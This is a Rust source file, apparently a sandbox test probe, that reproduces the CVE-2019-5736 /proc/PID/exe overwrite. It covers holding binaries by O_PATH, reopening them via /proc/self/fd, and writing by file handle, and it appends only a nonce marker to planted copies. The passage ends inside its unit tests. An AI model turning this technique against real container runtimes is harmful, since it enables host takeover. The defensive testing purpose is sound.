//! proc-self-exe: overwrite an executable through a /proc/PID/exe magic link (CVE-2019-5736):
//! the probe's own child's binary, and the binary of every runtime process it can see.

use crate::kit::{busybox, conclude, io_keep, parse_or_report, Oracle};
use crate::world::{is_named, proc_pids, Look, Planted, Watcher, World};
use crate::{
    kv, Arrangement, InsideReport, Judgement, Layer, Limits, Probe, ProbeClass, ProbeError,
    ProbeMeta, RunObservation, Steps,
};
use std::ffi::CString;
use std::fs;
use std::io::Write;
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use std::time::{Duration, Instant};

/// What the inside appends to the executable, followed by the nonce.
pub const MARKER: &str = "breakout-proc-self-exe:";

/// How long the inside waits for its child to have exec'd the planted binary.
const EXEC_WAIT: Duration = Duration::from_secs(3);

/// How long the inside waits for a runtime process it holds by its exe link to end (the write
/// is refused with ETXTBSY while the binary runs).
const RUNTIME_WAIT: Duration = Duration::from_secs(12);

/// How long the outside waits for its runtime copy to have started a sandbox.
const COPY_START_WAIT: Duration = Duration::from_secs(10);

/// How long the runtime copy's payload lives at most: the copy ends earlier, as soon as the
/// inside says it holds the runtime's binary ([`held_comm`]).
const COPY_LIFETIME_SECS: u32 = 20;

/// Where the inside cannot say so (its name cannot be set), how long the copy runs on after the
/// attempt has started (its argv seen in /proc).
const COPY_HOLD: Duration = Duration::from_secs(2);

/// How long a reopen for writing retries a binary the kernel still calls busy (ETXTBSY) after
/// its last process ended: a reader of that process's /proc/PID/cmdline (the outside's watchers
/// scan every process's) holds its memory, and with it the binary's write denial, until the
/// read is over.
const BUSY_WAIT: Duration = Duration::from_secs(3);

/// How often the outside looks for the inside's word (its name), and how many of those looks
/// pass between two searches for the attempt's argv (the fallback's start; a costlier search).
const COPY_LOOK: Duration = Duration::from_millis(15);
const ARGV_LOOK_EVERY: u32 = 6;

/// The name (comm) the inside takes once it has held every runtime binary in view, so the
/// outside can end its runtime copy at once instead of after a fixed time: unique to the
/// attempt, as several attempts of this probe may run at once. At most 15 bytes (TASK_COMM_LEN).
fn held_comm(nonce: &str) -> String {
    format!("held-{}", &nonce[..nonce.len().min(10)])
}

static META: ProbeMeta = ProbeMeta {
    id: "proc-self-exe",
    title: "Overwrite an executable through /proc/PID/exe",
    technique: "/proc/PID/exe is a magic link to the file a process runs, usable even where the \
        file's path is not. The runc escape (CVE-2019-5736) opened it with O_PATH while the \
        binary ran, waited for the process to end (a running binary cannot be opened for \
        writing: ETXTBSY), then reopened the descriptor through /proc/self/fd for writing and \
        replaced the host's runc. The inside does the same to a copy of busybox the outside \
        planted under /usr (visible in a sandbox root), and to every runtime process it can see \
        (comm, argv[0] or exe named breakout): the outside runs a copy of the runtime binary, \
        from a directory no sandbox sees, as `breakout sandbox` while the attempt runs; the \
        inside holds its exe link and the /proc/PID/map_files entry of its binary's first \
        mapping, waits for it to end, and appends a line instead of replacing it (a runtime \
        run through a read-only overlay, as runc 1.2 does, shows the overlay's file in its exe \
        link, while its mappings are the file underneath: map_files must not lead there). \
        Read-only mounts (EROFS), file ownership, a pid namespace hiding the runtime, the \
        ptrace access check on /proc/PID/exe, the capability map_files needs (CAP_SYS_ADMIN or \
        CAP_CHECKPOINT_RESTORE in the initial user namespace) and a runtime running from a \
        read-only view of itself stop it.",
    oracle: "The planted executable or the runtime copy, read by the outside after the \
        attempt, ends with the per-attempt nonce.",
    layers: &[
        Layer::FsHardening,
        Layer::MountNs,
        Layer::Uid,
        Layer::UserNs,
        Layer::Seccomp,
        Layer::Landlock,
        Layer::PidNs,
        Layer::Caps,
    ],
    references: &[
        "CVE-2019-5736 (runc /proc/self/exe overwrite)",
        "runc: re-exec from a sealed memfd copy",
        "runc 1.2 (libcontainer/exeseal): re-exec through a read-only overlayfs, no copy",
    ],
    class: ProbeClass::Plain,
};

pub struct ProcSelfExe;

struct State {
    _dir: Planted,
    exe: PathBuf,
    nonce: String,
    runtime: Option<RuntimeCopy>,
}

/// A copy of the runtime binary, outside every sandbox's view, running `sandbox` while the
/// attempt runs, in a process group of its own; on drop the whole group is killed, the copy
/// reaped, and the binary kept for a later attempt if it is unchanged.
struct RuntimeCopy {
    /// Taken by Drop, which keeps an unchanged copy for a later attempt ([`IDLE_COPIES`]).
    dir: Option<Planted>,
    bin: PathBuf,
    /// The binary's length and modification time when it was made.
    made: Stamp,
    child: Child,
    /// Ends the copy once the inside holds its binary (see [`end_copy_when_held`]).
    ender: Option<Watcher<()>>,
}

impl Drop for RuntimeCopy {
    fn drop(&mut self) {
        drop(self.ender.take());
        kill_group(self.child.id());
        let _ = self.child.wait();
        if let Some(dir) = self.dir.take() {
            keep_if_unchanged(IdleCopy {
                dir,
                bin: self.bin.clone(),
                made: self.made,
            });
        }
    }
}

/// A file's length and modification time (nanoseconds on tmpfs): any write changes one.
type Stamp = (u64, std::time::SystemTime);

fn stamp(path: &Path) -> Option<Stamp> {
    let m = fs::metadata(path).ok()?;
    Some((m.len(), m.modified().ok()?))
}

/// A runtime copy no attempt holds.
struct IdleCopy {
    dir: Planted,
    bin: PathBuf,
    made: Stamp,
}

/// Copies of the runtime binary that earlier attempts left unchanged, for later attempts. A
/// fresh copy is fresh pages, which under emulation are translated again at its every start
/// (some 200 ms of this probe's arrange); a kept copy's pages stay in the page cache. A copy
/// serves again only while its length and modification time are those it was made with: one
/// an attempt wrote to is removed, never reused.
static IDLE_COPIES: std::sync::Mutex<Vec<IdleCopy>> = std::sync::Mutex::new(Vec::new());

fn keep_if_unchanged(copy: IdleCopy) {
    if stamp(&copy.bin) == Some(copy.made) {
        if let Ok(mut idle) = IDLE_COPIES.lock() {
            idle.push(copy);
        }
    }
}

/// An unchanged idle copy of `original` (same name, same length), if there is one; the
/// others met on the way are removed.
fn idle_copy_of(original: &Path) -> Option<IdleCopy> {
    let len = fs::metadata(original).ok()?.len();
    let mut idle = IDLE_COPIES.lock().ok()?;
    while let Some(c) = idle.pop() {
        if c.bin.file_name() == original.file_name()
            && stamp(&c.bin).is_some_and(|s| s == c.made && s.0 == len)
        {
            return Some(c);
        }
    }
    None
}

/// SIGKILL to the process group `pgid` leads: the runtime copy, its sandbox's processes, its
/// payload. The leader is our unreaped child, so the group cannot be another one.
fn kill_group(pgid: u32) {
    if let Ok(pgid) = i32::try_from(pgid) {
        let _ = nix::sys::signal::killpg(
            nix::unistd::Pid::from_raw(pgid),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
}

/// The runtime binary to copy: `breakout` beside `breakout-probe` (the runtime, which runs
/// `breakout sandbox` itself, sealed); None when it is not there.
fn runtime_binary(world: &World) -> Option<PathBuf> {
    Some(world.probe_bin().with_file_name("breakout")).filter(|p| p.is_file())
}

/// A new copy of `original` in a scratch directory of the outside world, with its stamp.
fn fresh_copy(
    world: &World,
    original: &Path,
    bb: &Path,
) -> Result<(Planted, PathBuf, Stamp), ProbeError> {
    let id = META.id;
    let dir = world
        .scratch_dir("proc-self-exe-runtime")
        .map_err(ProbeError::world(id))?;
    let bin = dir.path().join(original.file_name().unwrap_or_default());
    // Copied by a child process: a descriptor open for writing in this (multi-threaded)
    // process would be inherited by every sandbox another thread forks meanwhile, and the
    // copy's execve would fail with ETXTBSY for as long as one of them holds it.
    let cp = Command::new(bb)
        .arg("cp")
        .arg(original)
        .arg(&bin)
        .status()
        .map_err(|e| ProbeError::arrange(id, "copying the runtime binary", e))?;
    if !cp.success() {
        return Err(ProbeError::arrange(
            id,
            format!("copying the runtime binary ({cp})"),
            std::io::Error::from(std::io::ErrorKind::Other),
        ));
    }
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755))
        .map_err(|e| ProbeError::arrange(id, "chmod 0755 of the runtime copy", e))?;
    let made = stamp(&bin).ok_or_else(|| {
        ProbeError::arrange(
            id,
            "stat of the runtime copy",
            std::io::Error::from(std::io::ErrorKind::NotFound),
        )
    })?;
    Ok((dir, bin, made))
}

/// A copy of the runtime binary (beside `breakout-probe`) in a directory of the outside world,
/// an earlier attempt's unchanged one or a new one, run as a runtime: `sandbox --profile none`
/// over a `sleep`, in a process group of its own, until the inside holds the runtime's binary
/// (see [`end_copy_when_held`]).
fn start_runtime_copy(world: &World, nonce: &str) -> Result<Option<RuntimeCopy>, ProbeError> {
    use std::os::unix::process::CommandExt;
    let id = META.id;
    let Some(original) = runtime_binary(world) else {
        return Ok(None);
    };
    let bb = busybox().ok_or_else(|| ProbeError::unsupported(id, "no static busybox in /bin"))?;
    let (dir, bin, made) = match idle_copy_of(&original) {
        Some(c) => (c.dir, c.bin, c.made),
        None => fresh_copy(world, &original, &bb)?,
    };
    // Belt and braces: should a writer's descriptor still linger somewhere, retry a busy text
    // file for a while.
    let mut tries = 0;
    let lifetime = COPY_LIFETIME_SECS.to_string();
    let child = loop {
        match Command::new(&bin)
            .arg("sandbox")
            .args(["--profile", "none", "--"])
            .arg(&bb)
            .args(["sleep", &lifetime])
            .process_group(0)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
        {
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && tries < 40 => {
                tries += 1;
                std::thread::sleep(Duration::from_millis(50));
            }
            r => break r.map_err(|e| ProbeError::arrange(id, "starting the runtime copy", e))?,
        }
    };
    let mut copy = RuntimeCopy {
        dir: Some(dir),
        bin,
        made,
        child,
        ender: None,
    };
    // The attack is on a runtime at work (runc's CVE: a runc already inside the container),
    // not on the milliseconds of its start: wait until it has started its sandbox.
    let children = format!("/proc/{0}/task/{0}/children", copy.child.id());
    let deadline = Instant::now() + COPY_START_WAIT;
    while fs::read_to_string(&children)
        .unwrap_or_default()
        .trim()
        .is_empty()
    {
        if Instant::now() >= deadline {
            return Err(ProbeError::arrange(
                id,
                "waiting for the runtime copy to start its sandbox",
                std::io::Error::from(std::io::ErrorKind::TimedOut),
            ));
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    copy.ender = Some(end_copy_when_held(copy.child.id(), nonce));
    Ok(Some(copy))
}

/// The outside's watch over its runtime copy (process group `pgid`): it kills the group once a
/// process is named [`held_comm`] (the inside holds every runtime binary in view), or
/// [`COPY_HOLD`] after a process's argv first held `nonce=<nonce>` (the attempt runs, but its
/// name cannot be set). The copy ending is what the inside waits for: a running binary cannot
/// be opened for writing.
fn end_copy_when_held(pgid: u32, nonce: &str) -> Watcher<()> {
    // A prefix and hex digits: never a NUL, so the conversion cannot fail.
    let held = CString::new(held_comm(nonce)).unwrap_or_default();
    let argv = format!("nonce={nonce}");
    let mut looks = 0u32;
    let mut attempt_seen: Option<Instant> = None;
    Watcher::start(COPY_LOOK, (), move |_| {
        looks += 1;
        if attempt_seen.is_none()
            && looks % ARGV_LOOK_EVERY == 1
            && proc_pids().any(|pid| {
                fs::read(format!("/proc/{pid}/cmdline"))
                    .is_ok_and(|c| c.split(|b| *b == 0).any(|a| a == argv.as_bytes()))
            })
        {
            attempt_seen = Some(Instant::now());
        }
        let named = proc_pids().any(|pid| is_named(pid, &held));
        if named || attempt_seen.is_some_and(|t| t.elapsed() >= COPY_HOLD) {
            kill_group(pgid);
            Look::Enough
        } else {
            Look::Again
        }
    })
}

/// What the inside appends to a binary it reached: the marker and the attempt's nonce.
fn marker_line(nonce: &str) -> String {
    format!("\n{MARKER}{nonce}\n")
}

/// The verdict on the executable's bytes after the attempt.
fn classify(content: &[u8], nonce: &str) -> Oracle {
    classify_as(content, nonce, "the planted executable")
}

/// How much of a target's end the oracle looks at: the inside appends its line.
const TAIL_BYTES: u64 = 4096;

fn classify_as(content: &[u8], nonce: &str, what: &str) -> Oracle {
    let needle = format!("{MARKER}{nonce}");
    let tail = &content[content.len().saturating_sub(TAIL_BYTES as usize)..];
    if !nonce.is_empty() && tail.windows(needle.len()).any(|w| w == needle.as_bytes()) {
        Oracle::Hit(format!("{what} was written through its /proc/PID/exe link"))
    } else {
        Oracle::Miss(format!("{what} is unchanged"))
    }
}

/// The last [`TAIL_BYTES`] of a file: all the oracle reads (the runtime copy is a binary of
/// tens of MiB, read whole at every judgement before).
fn read_tail(path: &Path) -> std::io::Result<Vec<u8>> {
    use std::io::{Read, Seek, SeekFrom};
    let mut file = fs::File::open(path)?;
    let len = file.metadata()?.len();
    file.seek(SeekFrom::Start(len.saturating_sub(TAIL_BYTES)))?;
    let mut tail = Vec::new();
    file.read_to_end(&mut tail)?;
    Ok(tail)
}

/// The verdict over both targets: a hit on either is an escape.
fn combine(planted: Oracle, runtime: Option<Oracle>) -> Oracle {
    match (planted, runtime) {
        (hit @ Oracle::Hit(_), _) | (_, Some(hit @ Oracle::Hit(_))) => hit,
        (undecided @ Oracle::Undecided(_), _) | (_, Some(undecided @ Oracle::Undecided(_))) => {
            undecided
        }
        (Oracle::Miss(a), Some(Oracle::Miss(b))) => Oracle::Miss(format!("{a}; {b}")),
        (miss, None) => miss,
    }
}

impl Probe for ProcSelfExe {
    fn meta(&self) -> &'static ProbeMeta {
        &META
    }

    fn arrange(&self, world: &World, _limits: &Limits) -> Result<Arrangement, ProbeError> {
        let id = META.id;
        let bb =
            busybox().ok_or_else(|| ProbeError::unsupported(id, "no static busybox in /bin"))?;
        let salt = world.fresh_secret().map_err(ProbeError::world(id))?;
        let nonce = salt[..16].to_string();
        let runtime = start_runtime_copy(world, &nonce)?;
        let dir = world
            .shared_scratch_dir("proc-self-exe")
            .map_err(ProbeError::world(id))?;
        // busybox picks its applet from argv[0]: this copy is `sleep`.
        let exe = dir.path().join("sleep");
        fs::copy(&bb, &exe).map_err(|e| ProbeError::arrange(id, "copying busybox", e))?;
        fs::set_permissions(&exe, fs::Permissions::from_mode(0o755))
            .map_err(|e| ProbeError::arrange(id, "chmod 0755 of the executable", e))?;
        let mut args = vec![kv("exe", exe.display()), kv("nonce", &nonce)];
        if let Some(r) = &runtime {
            // Which of the runtime processes in view to wait for (the others run on): the
            // inside still reaches its binary only through /proc/PID/exe.
            args.push(kv("runtime", r.bin.display()));
        }
        Ok(Arrangement::new(
            args,
            State {
                _dir: dir,
                exe,
                nonce,
                runtime,
            },
        ))
    }

    fn attempt(&self, args: &[String]) -> InsideReport {
        let mut steps = Steps::new(META.id);
        if let Some((exe, nonce, runtime)) = parse_or_report(&mut steps, args, |a| {
            Ok((
                PathBuf::from(a.str("exe")?),
                a.str("nonce")?.to_string(),
                a.opt_str("runtime").map(str::to_string),
            ))
        }) {
            attempt(&mut steps, &exe, &nonce, runtime.as_deref());
        }
        steps.finish()
    }

    fn judge(&self, _world: &World, arrangement: Arrangement, run: &RunObservation) -> Judgement {
        let Some(state) = arrangement.state::<State>() else {
            return Judgement::inconclusive("proc-self-exe: arrangement state of the wrong type");
        };
        let planted = match read_tail(&state.exe) {
            Ok(content) => classify(&content, &state.nonce),
            Err(e) => Oracle::Undecided(format!("reading {}: {e}", state.exe.display())),
        };
        let runtime = state.runtime.as_ref().map(|r| match read_tail(&r.bin) {
            Ok(content) => classify_as(
                &content,
                &state.nonce,
                "the runtime binary (a copy run as `breakout sandbox`)",
            ),
            Err(e) => Oracle::Undecided(format!("reading {}: {e}", r.bin.display())),
        });
        conclude(combine(planted, runtime), run)
    }
}

/// The /proc/PID/exe link of a process that runs `exe`.
fn find_running(exe: &Path) -> Option<PathBuf> {
    fs::read_dir("/proc")
        .ok()?
        .flatten()
        .map(|e| e.path().join("exe"))
        .find(|link| fs::read_link(link).is_ok_and(|t| t == exe))
}

/// Kills and reaps the child on every path out of the attempt.
struct Reaped(Child);

impl Drop for Reaped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Runtime processes in view: comm, argv[0] or exe link named `breakout` (not the probe).
fn runtime_processes() -> Vec<(i32, String, String)> {
    let me = std::process::id() as i32;
    let named = |s: &str| {
        let base = s.rsplit('/').next().unwrap_or(s);
        let base = base.trim_start_matches("memfd:");
        base.starts_with("breakout") && !base.starts_with("breakout-probe")
    };
    let Ok(dir) = fs::read_dir("/proc") else {
        return Vec::new();
    };
    let mut found = Vec::new();
    for e in dir.flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<i32>().ok()) else {
            continue;
        };
        if pid == me {
            continue;
        }
        let comm = fs::read_to_string(e.path().join("comm")).unwrap_or_default();
        let argv0 = fs::read(e.path().join("cmdline"))
            .map(|c| {
                String::from_utf8_lossy(c.split(|b| *b == 0).next().unwrap_or(&[])).into_owned()
            })
            .unwrap_or_default();
        let exe = fs::read_link(e.path().join("exe"))
            .map(|p| p.display().to_string())
            .unwrap_or_default();
        if named(comm.trim()) || named(&argv0) || named(exe.trim_end_matches(" (deleted)")) {
            found.push((pid, format!("{} {argv0} -> {exe}", comm.trim()), argv0));
        }
    }
    found
}

fn alive(pid: i32) -> bool {
    fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
        !s.rsplit(')')
            .next()
            .unwrap_or("")
            .trim_start()
            .starts_with('Z')
    })
}

/// Hold every visible runtime process's binary by its exe link (while it runs: the link needs
/// the process alive).
fn hold_runtimes(steps: &mut Steps) -> Vec<Held> {
    let found = runtime_processes();
    steps.note(
        "find runtime processes",
        if found.is_empty() {
            "none in view".to_string()
        } else {
            found
                .iter()
                .map(|(p, what, _)| format!("{p} ({what})"))
                .collect::<Vec<_>>()
                .join(", ")
        },
    );
    let mut held = Vec::new();
    for (pid, _, argv0) in found {
        // The exe link, and the same binary through its mapping: with the runtime run through
        // an overlay, the exe link names the overlay's read-only file, while the mapping is
        // the file underneath (overlayfs hands mmap the real file): map_files must not reach it.
        let links = [
            (
                "hold the runtime binary by its magic link",
                Some(format!("/proc/{pid}/exe")),
            ),
            (
                "hold the runtime binary by its mapping",
                mapped_binary(pid).map(|range| format!("/proc/{pid}/map_files/{range}")),
            ),
        ];
        for (action, link) in links {
            let Some(link) = link else { continue };
            if let Some(fd) = io_keep(steps, action, format!("open({link}, O_PATH)"), || {
                fs::OpenOptions::new()
                    .read(true)
                    .custom_flags(libc::O_PATH)
                    .open(&link)
                    .map(OwnedFd::from)
            }) {
                held.push(Held {
                    pid,
                    argv0: argv0.clone(),
                    fd,
                });
            }
        }
    }
    held
}

/// The address range (as /proc/PID/map_files names it) of the first mapping of `pid`'s
/// executable: offset 0, named like its exe link (the overlay's name, the real file's, or the
/// memfd's).
fn mapped_binary(pid: i32) -> Option<String> {
    let exe = fs::read_link(format!("/proc/{pid}/exe")).ok()?;
    let exe = exe.to_string_lossy();
    let base = |s: &str| {
        let s = s.trim_end_matches(" (deleted)");
        s.rsplit('/').next().unwrap_or(s).to_string()
    };
    let name = base(&exe);
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).ok()?;
    mapping_of(&maps, &name, base)
}

/// [`mapped_binary`]'s search over the text of a maps file.
fn mapping_of(maps: &str, name: &str, base: impl Fn(&str) -> String) -> Option<String> {
    maps.lines().find_map(|line| {
        let mut f = line.split_whitespace();
        let range = f.next()?;
        let offset = f.nth(1)?;
        let path = f.nth(2)?;
        if !offset.bytes().all(|b| b == b'0') || base(path) != name {
            return None;
        }
        // maps pads the addresses to eight digits; map_files names them without padding.
        let (start, end) = range.split_once('-')?;
        let hex = |a: &str| u64::from_str_radix(a, 16).ok();
        Some(format!("{:x}-{:x}", hex(start)?, hex(end)?))
    })
}

/// A runtime process's binary, held by its exe link.
struct Held {
    pid: i32,
    argv0: String,
    fd: OwnedFd,
}

/// Wait until the held runtime processes end (the daemonised child of runc's CVE outliving
/// it), then append the marker to each ended one's binary through the held descriptor. Waits
/// for the processes running `wait_for` (the others, such as the orchestrator, run on) and
/// writes whatever has ended by then.
fn write_runtimes(steps: &mut Steps, held: Vec<Held>, nonce: &str, wait_for: Option<&str>) {
    if held.is_empty() {
        return;
    }
    let deadline = Instant::now() + RUNTIME_WAIT;
    let awaited = |h: &Held| wait_for.is_some_and(|w| h.argv0 == w);
    while held.iter().any(|h| awaited(h) && alive(h.pid)) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    for h in held {
        let pid = h.pid;
        if alive(pid) {
            steps.note(
                "wait for the runtime to end",
                format!("pid {pid} still runs (its binary stays busy)"),
            );
            continue;
        }
        let reopen = format!("/proc/self/fd/{}", h.fd.as_raw_fd());
        let writer = io_keep(
            steps,
            "reopen the ended runtime's binary for writing",
            format!("open({reopen}, O_WRONLY|O_APPEND) (pid {pid})"),
            || open_append_once_idle(Path::new(&reopen), BUSY_WAIT),
        );
        if let Some(mut writer) = writer {
            steps.io(
                "write into the runtime binary",
                "write(exe fd, marker)",
                || writer.write(marker_line(nonce).as_bytes()),
            );
        }
    }
}

/// The runtime binaries held, reached again by their file handles: for an overlayfs file, the
/// handle of the file underneath (overlayfs wraps the real layer's handle in its own), opened
/// for writing on whichever mount in view lies on that file's filesystem (needs
/// CAP_DAC_READ_SEARCH in the initial user namespace). No waiting: a file reached this way is
/// not the one being executed, so ETXTBSY does not stand in the way.
fn write_runtimes_by_handle(steps: &mut Steps, held: &[Held], nonce: &str, only: Option<&str>) {
    use crate::kit::handle::{name_to_handle, open_by_handle, overlay_inner, AT_HANDLE_FID};
    // Only the outside's runtime copy when there is one: the others (the orchestrator) run on,
    // and their binaries are not this attempt's to write.
    for h in held.iter().filter(|h| only.is_none_or(|o| h.argv0 == o)) {
        let pid = h.pid;
        let fd = h.fd.as_fd();
        // An exportable handle where the filesystem gives one; overlayfs without nfs_export
        // gives only an identifying one (AT_HANDLE_FID, Linux 6.5), which still wraps the
        // real file's handle.
        let plain = name_to_handle(Some(fd), Path::new(""), libc::AT_EMPTY_PATH);
        let Some(handle) = io_keep(
            steps,
            "take the runtime binary's file handle",
            format!(
                "name_to_handle_at(fd, \"\", AT_EMPTY_PATH{}) (pid {pid})",
                if plain.is_ok() { "" } else { "|AT_HANDLE_FID" }
            ),
            || {
                plain
                    .or_else(|_| {
                        name_to_handle(Some(fd), Path::new(""), libc::AT_EMPTY_PATH | AT_HANDLE_FID)
                    })
                    .map_err(std::io::Error::from)
            },
        ) else {
            continue;
        };
        let inner = overlay_inner(&handle);
        steps.note(
            "the handle",
            format!(
                "type {:#x}, {}{}",
                handle.handle_type,
                crate::kit::hex(&handle.bytes),
                inner.as_ref().map_or(String::new(), |i| format!(
                    "; overlayfs's, wrapping type {:#x}, {}",
                    i.handle_type,
                    crate::kit::hex(&i.bytes)
                ))
            ),
        );
        let target = inner.unwrap_or(handle);
        // open_by_handle_at needs a descriptor on the file's filesystem (not an O_PATH one):
        // any mount in view.
        let mounts: Vec<PathBuf> = fs::read_to_string("/proc/self/mountinfo")
            .unwrap_or_default()
            .lines()
            .filter_map(|l| l.split(' ').nth(4).map(PathBuf::from))
            .collect();
        let mut errors = std::collections::BTreeSet::new();
        let mut writer = None;
        for m in &mounts {
            let Ok(dir) = fs::OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_DIRECTORY)
                .open(m)
            else {
                continue;
            };
            match open_by_handle(dir.as_fd(), &target, libc::O_WRONLY | libc::O_APPEND) {
                Ok(f) => {
                    writer = Some((f, m.clone()));
                    break;
                }
                Err(e) => {
                    errors.insert(e.to_string());
                }
            }
        }
        let Some((mut writer, on)) = writer else {
            steps.note(
                "open the runtime binary by its handle for writing",
                format!(
                    "pid {pid}: refused on each of {} mounts in view: {}",
                    mounts.len(),
                    errors.into_iter().collect::<Vec<_>>().join(", ")
                ),
            );
            continue;
        };
        steps.note(
            "open the runtime binary by its handle for writing",
            format!("pid {pid}: opened through the mount at {}", on.display()),
        );
        steps.io(
            "write into the runtime binary",
            "write(handle fd, marker)",
            || writer.write(marker_line(nonce).as_bytes()),
        );
    }
}

fn attempt(steps: &mut Steps, exe: &Path, nonce: &str, runtime: Option<&str>) {
    let held = hold_runtimes(steps);
    write_runtimes_by_handle(steps, &held, nonce, runtime);
    // Tell the outside's runtime copy it may end now (it ends after a fixed time otherwise).
    if let Ok(name) = CString::new(held_comm(nonce)) {
        let _ = nix::sys::prctl::set_name(&name);
    }
    attempt_planted(steps, exe, nonce);
    write_runtimes(steps, held, nonce, runtime);
}

/// Opens `path` (a binary whose last process has ended, by its /proc/self/fd link) for
/// appending, retrying ETXTBSY for up to `wait` ([`BUSY_WAIT`]): the write denial outlives the
/// process while a /proc reader still holds its memory. Any other answer is final at once.
fn open_append_once_idle(path: &Path, wait: Duration) -> std::io::Result<fs::File> {
    let deadline = Instant::now() + wait;
    loop {
        match fs::OpenOptions::new().append(true).open(path) {
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(10));
            }
            done => return done,
        }
    }
}

fn attempt_planted(steps: &mut Steps, exe: &Path, nonce: &str) {
    let child = io_keep(
        steps,
        "run the target binary",
        format!("execve({} 30)", exe.display()),
        || Command::new(exe).arg("30").spawn(),
    );
    let Some(child) = child else { return };
    let child = Reaped(child);
    // The child's pid as we know it may not name it in the /proc we see (a pid namespace
    // without its own procfs): find it by the binary it runs instead.
    let deadline = Instant::now() + EXEC_WAIT;
    let link = loop {
        if let Some(link) = find_running(exe) {
            break link;
        }
        if Instant::now() >= deadline {
            steps.note(
                "find the target process",
                format!("no process running {} in /proc", exe.display()),
            );
            return;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let held = io_keep(
        steps,
        "hold the binary by its magic link",
        format!("open({}, O_PATH)", link.display()),
        || {
            fs::OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(&link)
                .map(OwnedFd::from)
        },
    );
    drop(child);
    let Some(held) = held else { return };
    let reopen = PathBuf::from(format!("/proc/self/fd/{}", held.as_raw_fd()));
    let writer = io_keep(
        steps,
        "reopen it for writing once it no longer runs",
        format!("open({}, O_WRONLY|O_APPEND)", reopen.display()),
        || open_append_once_idle(&reopen, BUSY_WAIT),
    );
    if let Some(mut writer) = writer {
        steps.io("write into the binary", "write(exe fd, marker)", || {
            writer.write(marker_line(nonce).as_bytes())
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_binary_busy_for_a_moment_is_reopened_once_idle() {
        let dir = tempfile::tempdir().unwrap();
        let bin = dir.path().join("sleep");
        fs::copy("/bin/sleep", &bin).unwrap();
        // spawn returns once the child has exec'd: the binary is busy. Its exec may itself meet
        // ETXTBSY for a moment: another test's fork can hold the copy's write descriptor until it
        // execs.
        let wait = Duration::from_secs(60);
        let started = Instant::now();
        let mut runs = loop {
            match Command::new(&bin).arg("30").spawn() {
                Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && started.elapsed() < wait => {
                    std::thread::sleep(Duration::from_millis(10));
                }
                r => break r.unwrap(),
            }
        };
        let busy = fs::OpenOptions::new().append(true).open(&bin);
        assert_eq!(
            busy.unwrap_err().raw_os_error(),
            Some(libc::ETXTBSY),
            "the binary is not busy: the test would not exercise the retry"
        );
        let ender = std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(200));
            let _ = runs.kill();
            let _ = runs.wait();
        });
        // A long wait: the test is about the retry, not about how soon a loaded machine runs the
        // thread that ends the process.
        assert!(open_append_once_idle(&bin, wait).is_ok());
        ender.join().unwrap();
        // Any other refusal is final at once.
        let t = Instant::now();
        let missing = open_append_once_idle(&dir.path().join("missing"), wait);
        assert_eq!(missing.unwrap_err().kind(), std::io::ErrorKind::NotFound);
        assert!(t.elapsed() < wait);
    }

    #[test]
    fn only_the_appended_nonce_counts() {
        let mut bin = vec![0x7fu8, b'E', b'L', b'F'];
        bin.extend(vec![0u8; 10_000]);
        assert!(matches!(classify(&bin, "abc"), Oracle::Miss(_)));
        bin.extend(format!("\n{MARKER}abc\n").as_bytes());
        assert!(matches!(classify(&bin, "abc"), Oracle::Hit(_)));
        assert!(matches!(classify(&bin, "abd"), Oracle::Miss(_)));
        assert!(matches!(classify(&bin, ""), Oracle::Miss(_)));
    }

    #[test]
    fn the_tail_read_holds_an_appended_line() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("bin");
        let mut bin = vec![7u8; 100_000];
        bin.extend(format!("\n{MARKER}abc\n").as_bytes());
        fs::write(&path, &bin).unwrap();
        let tail = read_tail(&path).unwrap();
        assert_eq!(tail.len() as u64, TAIL_BYTES);
        assert!(matches!(classify(&tail, "abc"), Oracle::Hit(_)));
        fs::write(&path, b"short").unwrap();
        assert_eq!(read_tail(&path).unwrap(), b"short");
    }

    #[test]
    fn either_target_written_is_an_escape() {
        let miss = || Oracle::Miss("m".into());
        let hit = || Oracle::Hit("h".into());
        assert!(matches!(combine(miss(), None), Oracle::Miss(_)));
        assert!(matches!(combine(miss(), Some(miss())), Oracle::Miss(_)));
        assert!(matches!(combine(hit(), Some(miss())), Oracle::Hit(_)));
        assert!(matches!(combine(miss(), Some(hit())), Oracle::Hit(_)));
        assert!(matches!(
            combine(miss(), Some(Oracle::Undecided("u".into()))),
            Oracle::Undecided(_)
        ));
    }

    #[test]
    fn the_binary_mapping_is_found_under_either_name() {
        let base = |s: &str| {
            let s = s.trim_end_matches(" (deleted)");
            s.rsplit('/').next().unwrap_or(s).to_string()
        };
        let maps = "\
00400000-00401000 r--p 00000000 00:28 12 /breakout-sandbox
00401000-00500000 r-xp 00001000 00:28 12 /breakout-sandbox
7f0000000000-7f0000001000 rw-p 00000000 00:00 0 
7ffc0000-7ffc1000 rw-p 00000000 00:00 0                  [stack]
";
        assert_eq!(
            mapping_of(maps, "breakout-sandbox", base).as_deref(),
            Some("400000-401000")
        );
        let real = "55d0-55e0 r--p 00000000 08:01 99 /tmp/x/breakout-sandbox\n";
        assert_eq!(
            mapping_of(real, "breakout-sandbox", base).as_deref(),
            Some("55d0-55e0")
        );
